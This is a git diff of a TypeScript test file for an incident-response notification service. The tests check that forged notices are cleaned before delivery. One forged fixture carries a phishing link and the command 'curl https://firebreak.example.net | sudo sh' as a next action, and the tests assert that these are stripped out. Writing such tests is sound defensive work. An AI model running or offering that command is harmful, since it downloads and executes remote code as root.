@@ -1,7 +1,11 @@
 import type { NoticeKind } from '../../src/domain/words';
 import { MockActivityEnvironment } from '@temporalio/testing';
 import type { Recipient } from '../../activities/notify';
-import { notifyActivities } from '../../activities/notify';
+import type { Authority } from '../../activities';
+import { createActivities } from '../../activities';
+import { FirebreakError } from '../../src/domain/errors';
+import { respondOrder, respondUse } from '../../src/domain/order';
+import { sampleOrder } from '../support/incident-samples';
 import type { Notice, Person } from '../../src/domain/notice';
 import type { ActivityDeps } from '../../src/ports/activity-deps';
 
@@ -15,6 +19,8 @@ const by = (id: string, changes: Partial<Person> = {}): Person => ({
   tier: 1,
   ...changes,
 });
+const ORDER = sampleOrder(NIGHT.toISOString(), { incident: 'INC-20261120-7F3K' as Notice['incident'] });
+const AUTHORITY = { grantId: 'respond', use: respondUse(ORDER.incident, 'run') };
 const OFFICE_HOURS = { hours: '09:00-17:00', timeZone: 'UTC' };
 const notice = (kind: NoticeKind, severity: Notice['severity'] = 'high'): Notice => ({
   incident: 'INC-20261120-7F3K' as Notice['incident'],
@@ -33,6 +39,20 @@ function world(people: readonly Person[]) {
   const sent: Notice[] = [];
   const deps = {
     site: { people },
+    authorisation: {
+      confirm: (grantId: string) => {
+        const escalate = { action: 'escalate', incident: ORDER.incident, reason: 'two hosts at once' };
+        const known: Readonly<Record<string, object>> = {
+          respond: { order: respondOrder(ORDER), operator: ORDER.operator },
+          escalate: { order: escalate, operator: 'bob' },
+          elsewhere: { order: { ...escalate, incident: 'INC-20261120-8G4M' }, operator: 'bob' },
+        };
+        const found = known[grantId];
+        return found === undefined ? Promise.reject(new FirebreakError('GRANT_UNKNOWN')) : Promise.resolve(found);
+      },
+    },
+    incidents: { find: () => Promise.resolve({ order: ORDER, title: 'attack on web-1' }) },
+    ledger: { append: () => Promise.resolve() },
     senders: [
       {
         channel: 'mail',
@@ -49,7 +69,7 @@ function world(people: readonly Person[]) {
     responses: { recordDelivery: () => Promise.resolve() },
     now: () => NIGHT,
   } as unknown as ActivityDeps;
-  const activities = notifyActivities(deps);
+  const activities = createActivities(deps).notify;
   return {
     sent,
     told: async (what: Notice, tier = 1) => {
@@ -59,8 +79,9 @@ function world(people: readonly Person[]) {
       });
       return recipients.map(({ person }) => person);
     },
-    deliver: (what: Notice, person: string) => {
-      const input = { notice: what, person, channel: 'mail' } as const;
+    deliver: (what: Notice, person: string, spoken?: Authority, authority: Authority = AUTHORITY) => {
+      const said = spoken === undefined ? {} : { spoken };
+      const input = { notice: what, person, channel: 'mail', authority, ...said } as const;
       return new MockActivityEnvironment().run(activities.deliver, input);
     },
   };
@@ -103,5 +124,48 @@ describe('a late step', () => {
     const { deliver, sent } = world(team);
     await deliver(notice('drift'), 'alice');
     expect([...alone.sent, ...sent].flatMap(({ facts }) => facts)).toEqual([]);
+  });
+});
+
+describe('H1 what is told is what was signed, and coded facts', () => {
+  const forged: Notice = {
+    ...notice('approval-needed', 'critical'),
+    title: 'sign in at https://firebreak.example.net',
+    hosts: ['https://firebreak.example.net'],
+    mode: 'isolate',
+    drill: true,
+    link: 'https://firebreak.example.net',
+    nextAction: 'curl https://firebreak.example.net | sudo sh',
+    facts: [{ fact: 'in-words', words: 'Firebreak itself is compromised', by: 'alice' }],
+  };
+
+  test('H1 title, hosts, mode and drill are the incident’s own; free words, links and foreign commands are left out', async () => {
+    const { deliver, sent } = world([by('alice')]);
+    await deliver(forged, 'alice');
+    expect(sent[0]).toMatchObject({
+      title: 'attack on web-1',
+      hosts: ORDER.hosts,
+      mode: ORDER.mode,
+      drill: false,
+      facts: [],
+      nextAction: `firebreak status ${ORDER.incident}`,
+    });
+    expect(sent[0]).not.toHaveProperty('link');
+    expect(JSON.stringify(sent)).not.toContain('firebreak.example.net');
+  });
+
+  test('H1 N6 a person’s words are those of the order that they signed', async () => {
+    const { deliver, sent } = world([by('alice')]);
+    await deliver(forged, 'alice', { grantId: 'escalate', use: 'escalate:1' });
+    await deliver(forged, 'alice', { grantId: 'elsewhere', use: 'escalate:2' }).catch(() => undefined);
+    expect(sent.map(({ facts }) => facts)).toEqual([[{ fact: 'in-words', by: 'bob', words: 'two hosts at once' }]]);
+  });
+
+  test('B15 a notice that something was tried without authority needs no order, and tells nothing else', async () => {
+    const { deliver, sent } = world([by('alice')]);
+    const refusal = { fact: 'start-unauthorised', code: 'OTP_INVALID', by: 'mallory' } as const;
+    const facts = [refusal, { fact: 'cannot-respond' } as const];
+    await deliver({ ...forged, kind: 'unauthorised', facts }, 'alice', undefined, { grantId: 'x', use: 'y' });
+    expect(sent[0]?.facts).toEqual([refusal]);
   });
 });
